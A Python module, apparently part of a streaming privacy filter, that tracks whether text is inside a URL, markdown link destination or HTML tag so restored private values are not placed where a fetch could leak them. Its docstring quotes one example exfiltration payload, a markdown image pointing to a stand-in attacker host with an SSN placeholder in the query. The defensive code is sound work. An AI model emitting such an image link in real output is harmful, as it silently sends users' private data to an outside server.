"""Where a text points to: addresses, the destinations of markdown, the tags of HTML.

A value restored there would leave with the request that fetches the target: `![](https://evil.example/?q=[SSN_…])`
needs nobody's click. So whatever *some* reader of the text could take for a target counts as one; the price is a
placeholder that stays where it need not.

The three parts read the text each for itself, and one knows nothing of what another takes a character for. What is said
of a place depends on the text before it only, however that was cut. What comes behind it matters to a host alone
(`hosts`).
"""

from typing import Final

from extproc.streams.addresses import BACK, Addresses, ends_in_host
from extproc.streams.destinations import Destinations
from extproc.streams.markup import Markup

_GO_ON: Final = frozenset("/?#:\\0123456789")  # what a path or a port begins with


class Targets:
    """Follows one text. Holds 80 characters of it."""

    __slots__ = ("_addresses", "_destinations", "_markup", "_tail")

    def __init__(self) -> None:
        self.reset()

    def reset(self) -> None:
        """A new text begins."""
        self._tail = ""
        self._addresses = Addresses()
        self._destinations = Destinations()
        self._markup = Markup()

    @property
    def inside(self) -> bool:
        """Whether the next character stands in a target."""
        return self._addresses.inside or self._destinations.inside or self._markup.inside

    @property
    def enclosed(self) -> bool:
        """Whether it stands in one that has a closing mark: no blank and no quote ends it."""
        return self._destinations.enclosed or self._markup.inside

    def takes(self, value: str) -> bool:
        """Whether `value` would stand in one: as the path or port of a host, too, if it could be that."""
        return self.inside or (value[:1] in _GO_ON and ends_in_host(self._tail))

    def feed(self, text: str) -> None:
        """The text goes on."""
        if text:
            seen, place = self._tail + text, len(self._tail)
            self._addresses.feed(seen, place)
            self._destinations.feed(seen, place)
            self._markup.feed(seen, place)
            self._tail = seen[-BACK:]
